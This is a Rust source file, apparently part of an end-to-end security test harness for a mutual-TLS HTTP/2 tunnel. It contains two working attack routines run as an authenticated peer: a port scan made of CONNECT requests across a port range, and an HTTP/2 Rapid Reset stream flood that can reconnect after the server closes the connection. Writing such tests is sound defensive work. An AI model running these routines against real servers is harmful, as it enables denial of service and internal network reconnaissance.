//! Hostile use of tunnel streams by an authenticated peer.

use std::{
    collections::BTreeMap,
    net::IpAddr,
    sync::Arc,
    time::{Duration, Instant},
};

use anyhow::{Context, Result};
use bytes::Bytes;
use h2::client::SendRequest;

use crate::{report, Opts};

/// One mutual-TLS HTTP/2 connection to a tunnel port, ready for streams
/// (the server's SETTINGS, with its stream limit, applied), and its
/// driver: it ends with the connection (its error, e.g. a GOAWAY).
async fn tunnel(opts: &Opts) -> Result<(SendRequest<Bytes>, tokio::task::JoinHandle<Option<String>>)> {
    let cert_dir: String = opts.get("cert-dir")?;
    let config = outrigger_e2e::hbone::client_config(Some(std::path::Path::new(&cert_dir)))?;
    let tls = outrigger_e2e::hbone::tls_connect(opts.target()?, config).await?;
    let (sender, connection) = h2::client::handshake(tls).await.context("HTTP/2 handshake")?;
    let driver = tokio::spawn(async move { connection.await.err().map(|e| e.to_string()) });
    let sender = sender.ready().await.context("HTTP/2 not ready (TLS refused?)")?;
    // The server's SETTINGS arrive right after the handshake.
    tokio::time::sleep(Duration::from_millis(100)).await;
    Ok((sender, driver))
}

fn connect_request(authority: &str) -> Result<http::Request<()>> {
    Ok(http::Request::builder().method(http::Method::CONNECT).uri(authority).body(())?)
}

fn runtime() -> Result<tokio::runtime::Runtime> {
    Ok(tokio::runtime::Builder::new_current_thread().enable_all().build()?)
}

/// `connect-ports --connect TUNNEL --ip IP --ports FROM-TO --cert-dir DIR
/// [--parallel N]`: over one tunnel connection, a CONNECT to every port of
/// the range (closed ports of the pod: each is refused). Reports the
/// response statuses and how many streams were opened.
pub fn connect_ports(opts: &Opts) -> Result<()> {
    let ip: IpAddr = opts.get("ip")?;
    let ports: Vec<u16> = opts.ports()?.collect();
    let parallel: usize = opts.or("parallel", 50)?;
    runtime()?.block_on(async {
        let (sender, _driver) = tunnel(opts).await?;
        let gate = Arc::new(tokio::sync::Semaphore::new(parallel));
        let started = Instant::now();
        let mut pending = Vec::new();
        for port in &ports {
            let permit = gate.clone().acquire_owned().await?;
            let mut sender = sender.clone().ready().await?;
            let (response, mut send) = sender.send_request(connect_request(&format!("{ip}:{port}"))?, false)?;
            pending.push(tokio::spawn(async move {
                let status = match response.await {
                    Ok(r) => r.status().as_u16().to_string(),
                    Err(e) => format!("error: {e}"),
                };
                // A CONNECT that was served is not left open.
                send.send_reset(h2::Reason::CANCEL);
                drop(permit);
                status
            }));
        }
        let mut statuses: BTreeMap<String, usize> = BTreeMap::new();
        for p in pending {
            *statuses.entry(p.await.unwrap_or_else(|e| format!("task: {e}"))).or_default() += 1;
        }
        report(serde_json::json!({"opened": ports.len(), "statuses": statuses,
            "elapsed_ms": started.elapsed().as_millis() as u64}));
        Ok(())
    })
}

/// `rapid-reset --connect TUNNEL --authority IP:PORT --streams N
/// --cert-dir DIR [--reset-after-ms R] [--parallel P] [--reconnect]`:
/// opens N CONNECT streams to a served address, P (default 1) at a time,
/// and resets each R ms (default 2) after opening it, whatever the answer.
/// When the server closes the connection, it stops — or with
/// `--reconnect` dials a new one and goes on, as a peer proxy's pool
/// would. Reports the streams opened, the connections used and how they
/// ended.
pub fn rapid_reset(opts: &Opts) -> Result<()> {
    let authority: String = opts.get("authority")?;
    let streams: usize = opts.get("streams")?;
    let reset_after = Duration::from_millis(opts.or("reset-after-ms", 2)?);
    let parallel: usize = opts.or("parallel", 1)?;
    runtime()?.block_on(async {
        let started = Instant::now();
        let (mut opened, mut connections) = (0usize, 0usize);
        let mut ends: BTreeMap<String, usize> = BTreeMap::new();
        while opened < streams {
            connections += 1;
            let (mut sender, driver) = tunnel(opts).await?;
            let gate = Arc::new(tokio::sync::Semaphore::new(parallel));
            let mut resets = Vec::new();
            let mut failed = false;
            while opened + resets.len() < streams {
                let permit = gate.clone().acquire_owned().await?;
                let request = connect_request(&authority)?;
                let ready = sender.clone().ready().await;
                let stream = ready.and_then(|mut s| {
                    let stream = s.send_request(request, false);
                    sender = s;
                    stream
                });
                let Ok((response, mut send)) = stream else {
                    failed = true;
                    break;
                };
                resets.push(tokio::spawn(async move {
                    tokio::time::sleep(reset_after).await;
                    send.send_reset(h2::Reason::CANCEL);
                    drop((response, permit));
                }));
            }
            opened += resets.len();
            for r in resets {
                let _ = r.await;
            }
            if !failed {
                // Let the last resets reach the server, then close.
                tokio::time::sleep(Duration::from_millis(300)).await;
                drop(sender);
            }
            let ended = tokio::time::timeout(Duration::from_secs(5), driver).await.ok().and_then(Result::ok).flatten();
            *ends.entry(ended.unwrap_or_else(|| "closed by the client".into())).or_default() += 1;
            if failed && !opts.flag("reconnect") {
                break;
            }
        }
        report(serde_json::json!({"opened": opened, "connections": connections, "ends": ends,
            "elapsed_ms": started.elapsed().as_millis() as u64}));
        Ok(())
    })
}
